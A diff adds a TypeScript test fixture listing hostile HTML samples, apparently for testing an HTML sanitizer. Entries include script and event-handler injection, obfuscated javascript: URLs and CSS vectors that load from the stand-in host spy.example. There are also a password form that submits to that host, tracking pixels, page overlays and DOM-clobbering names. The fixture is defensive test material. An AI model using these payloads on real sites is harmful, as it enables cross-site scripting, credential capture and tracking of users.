@@ -1,0 +1,61 @@
+/** HTML that strangers send: each line a way to run, load, submit or cover something. */
+const SPY = 'https://spy.example'
+
+export const HOSTILE_HTML: ReadonlyArray<readonly [name: string, html: string]> = [
+  ['script', '<script>alert(1)</script><SCRIPT SRC="https://spy.example/x.js"></SCRIPT>'],
+  ['script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
+  ['event handlers', '<p onclick="alert(1)" onmouseover=alert(1)>x</p><body onload="alert(1)">'],
+  ['error of an image', `<img src="${SPY}/x" onerror="alert(1)">`],
+  [
+    'address that runs',
+    '<a href="javascript:alert(1)">x</a><a href=" java\tscript:alert(1)">x</a>',
+  ],
+  ['address in entities', '<a href="&#106;avascript:alert(1)">x</a><a href="vbscript:x">x</a>'],
+  ['address with data', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
+  ['style that computes', '<div style="width:expression(alert(1));behavior:url(x.htc)">x</div>'],
+  ['style that loads', `<div style="background:url(${SPY}/a.png);color:red">x</div>`],
+  ['style in escapes', `<div style="background:\\75\\72\\6c(${SPY}/b.png)">x</div>`],
+  ['style sheet', `<style>@import url(${SPY}/a.css); body{background:url(${SPY}/c.png)}</style>`],
+  ['link to a style sheet', `<link rel="stylesheet" href="${SPY}/d.css">`],
+  ['svg', `<svg onload="alert(1)"><image href="${SPY}/e.png"/><script>alert(1)</script></svg>`],
+  ['svg animation', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'],
+  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>'],
+  ['refresh', `<meta http-equiv="refresh" content="0;url=${SPY}/f">`],
+  ['base', `<base href="${SPY}/"><a href="x">x</a><img src="y.png">`],
+  [
+    'form',
+    `<form action="${SPY}/g"><input name=p type=password autofocus><button>x</button></form>`,
+  ],
+  ['form of elsewhere', `<button form=f formaction="${SPY}/h">x</button><isindex>`],
+  [
+    'srcset',
+    `<img srcset="${SPY}/i.png 1x, ${SPY}/j.png 2x"><picture><source srcset="${SPY}/k"></picture>`,
+  ],
+  [
+    'lowsrc and dynsrc',
+    `<img lowsrc="${SPY}/l" dynsrc="${SPY}/m"><input type=image src="${SPY}/n">`,
+  ],
+  ['background', `<table background="${SPY}/o.png"><td background="${SPY}/p.png">x</td></table>`],
+  ['cover', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>'],
+  ['cover by margin', '<div style="margin:-9999px 0 0 -999px;position:absolute">x</div>'],
+  ['tracking pixel', `<img src="${SPY}/q.gif" width=1 height=1><img src="//spy.example/r.gif">`],
+  ['frames', `<iframe src="${SPY}/s"></iframe><frameset><frame src="${SPY}/t"></frameset>`],
+  ['srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+  ['object', `<object data="${SPY}/u"><embed src="${SPY}/v"></object><applet code=x></applet>`],
+  ['media', `<video src="${SPY}/w" poster="${SPY}/x"></video><audio src="${SPY}/y" autoplay>`],
+  ['preload', `<link rel=prefetch href="${SPY}/z"><link rel=dns-prefetch href="//spy.example">`],
+  ['ping', `<a href="https://x.example" ping="${SPY}/ping">x</a>`],
+  ['template', '<template><script>alert(1)</script></template><noscript><img src=x></noscript>'],
+  [
+    'comment',
+    '<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><img src=x onerror=alert(1)>',
+  ],
+  ['names that cover the page', '<a id="location" name="cookie">x</a><img name="body">'],
+  [
+    'attributes without end',
+    '<p title="<img src=x onerror=alert(1)>">x</p><p title=\'"><script>x()</script>\'>',
+  ],
+  ['title', '<title><img src=x onerror=alert(1)></title><textarea><script>x()</script></textarea>'],
+  ['null bytes', '<scr\0ipt>alert(1)</scr\0ipt><a href="java\0script:x()">x</a>'],
+  ['much nesting', `${'<table><tr><td>'.repeat(2000)}x`],
+]
